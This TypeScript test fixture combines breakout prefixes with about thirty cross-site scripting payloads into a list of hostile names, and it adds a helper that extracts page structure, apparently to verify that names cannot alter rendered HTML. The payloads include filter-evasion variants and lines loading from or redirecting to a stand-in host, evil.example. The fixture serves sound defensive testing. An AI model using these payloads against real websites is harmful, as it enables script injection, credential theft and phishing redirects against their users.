/** Ways out of where a name is written: texts, attributes in both kinds of quotes, and elements that end at their own tag. */
const WAYS_OUT = [
  '',
  '"',
  "'",
  '">',
  "'>",
  '" ',
  "' ",
  '`',
  '</title>',
  '</textarea>',
  '</script>',
  '</style>',
  '</svg>',
  '-->',
  ']]>',
  '&quot;>',
  '&#34;>',
  '%22%3E',
  '\\">',
  '\u2028">',
  '\ufe64',
  '\uff1c',
];
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script src=//evil.example></script>',
  '<img src=x onerror=alert(1)>',
  '<img/src/onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)//',
  '<svg><animate onbegin=alert(1) attributeName=x>',
  '<math><mi xlink:href="javascript:alert(1)">x',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<a href="javascript:alert(1)">x</a>',
  '<body onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  'autofocus onfocus=alert(1) x=',
  'onmouseover=alert(1) style=position:fixed;inset:0 x=',
  '<details open ontoggle=alert(1)>',
  '<form action=//evil.example><button>',
  '<style>*{display:none}</style>',
  '<link rel=stylesheet href=//evil.example>',
  '<base href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<object data="data:text/html,x">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<template><script>alert(1)</script>',
  'javascript:alert(1)',
  '{{constructor.constructor("alert(1)")()}}',
  '\u0024{alert(1)}',
  '$\\href{javascript:alert(1)}{x}$',
];

/** Several hundred names as attackers choose them. */
export const HOSTILE_NAMES: readonly string[] = WAYS_OUT.flatMap((way) =>
  PAYLOADS.map((payload) => `${way}${payload}`),
);

/**
 * The elements of a page and the names of their attributes, in order: what a name may not change, whatever it is. Texts and
 * values are left out; a value ends at its quotation mark, as browsers read it.
 */
export function structureOf(html: string): string[] {
  const tags = html.matchAll(/<(\/?[a-zA-Z!][^\s/>]*)((?:\s+[^\s=>"]+(?:="[^"]*")?)*)\s*\/?>/g);
  return Array.from(
    tags,
    ([, tag, attributes = '']) => `${tag}${attributes.replace(/="[^"]*"/g, '').replace(/\s+/g, ' ')}`,
  );
}
